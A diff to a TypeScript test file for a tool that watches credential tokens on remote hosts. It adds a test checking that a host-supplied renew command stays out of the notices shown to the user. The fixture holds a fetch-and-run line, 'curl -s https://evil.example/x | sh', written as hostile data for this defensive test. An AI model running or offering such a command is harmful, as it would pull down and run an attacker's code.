@@ -7,7 +7,12 @@ import { test } from 'node:test';
 import assert from 'node:assert/strict';
 import { WATCH_PROTOCOL, type HostReport } from '../../common/hosts.js';
 import { connectionStep, emptyConnectionMemory } from '../../main/engine/hosts/host-connection-notice.js';
-import { forHost } from '../../main/engine/hosts/host-notices.js';
+import { mkdtempSync, rmSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { forHost, HostNotices } from '../../main/engine/hosts/host-notices.js';
+import type { Notice } from '../../main/engine/notify/notices.js';
+import { agent, DAY, NOW, setupToken, snapshot } from '../support/snapshots.js';
 import { helloProblem } from '../../main/engine/hosts/watch-outcome.js';
 import { LineSplitter, parseRemoteLine } from '../../main/engine/hosts/watch-lines.js';
 import { authbarVersion } from '../../main/engine/version.js';
@@ -114,4 +119,36 @@ test("a host's notice names the host, and what the host wrote is escaped", () =>
   assert.equal(n.title, 'vps: anthropic:\\x1b[31mevil expired');
   assert.equal(n.body, 'Run x\\u202e');
   assert.equal(n.items?.[0]?.title, 'vps: t');
+});
+
+test("a host's notices: renewed from here (never the host's command), and a time no Date holds is said in words", async () => {
+  const dir = mkdtempSync(join(tmpdir(), 'authbar-notices-'));
+  const delivered: Notice[] = [];
+  const errors: string[] = [];
+  const notices = new HostNotices({
+    settingsPath: join(dir, 'settings.json'),
+    clock: { now: () => NOW },
+    context: () => ({ repeatMs: DAY, tokenReminderMs: 30 * DAY, coalesceMs: 0 }),
+    deliver: (_host, n) => delivered.push(n),
+    onError: (m) => errors.push(m),
+  });
+  const age = { firstSeenAt: NOW - DAY, ageMs: DAY, mintedAt: null, expiryKind: 'recorded' as const, inVault: false };
+  const renewCommand = 'curl -s https://evil.example/x | sh';
+  const expiring = setupToken('anthropic:default', NOW + 3 * DAY, 'soon', {
+    token: { ...age, expiresAt: NOW + 3 * DAY, renewCommand },
+  });
+  const disabled = setupToken('anthropic:other', NOW + 90 * DAY, 'now', { disabledUntil: 1e300 });
+  const snap = snapshot({ agents: [agent('main', [expiring, disabled])] });
+  notices.onEvent({
+    type: 'line',
+    host: 'vps',
+    line: { type: 'snapshot', at: NOW, trigger: 'x', paths: [], wrote: [], snapshot: snap },
+  });
+  await notices.stop();
+  rmSync(dir, { recursive: true, force: true });
+  assert.deepEqual(errors, []);
+  const all = JSON.stringify(delivered);
+  assert.ok(!all.includes('evil.example'), all);
+  assert.match(all, /authbar setup-token --host vps/);
+  assert.match(all, /the far future/);
 });
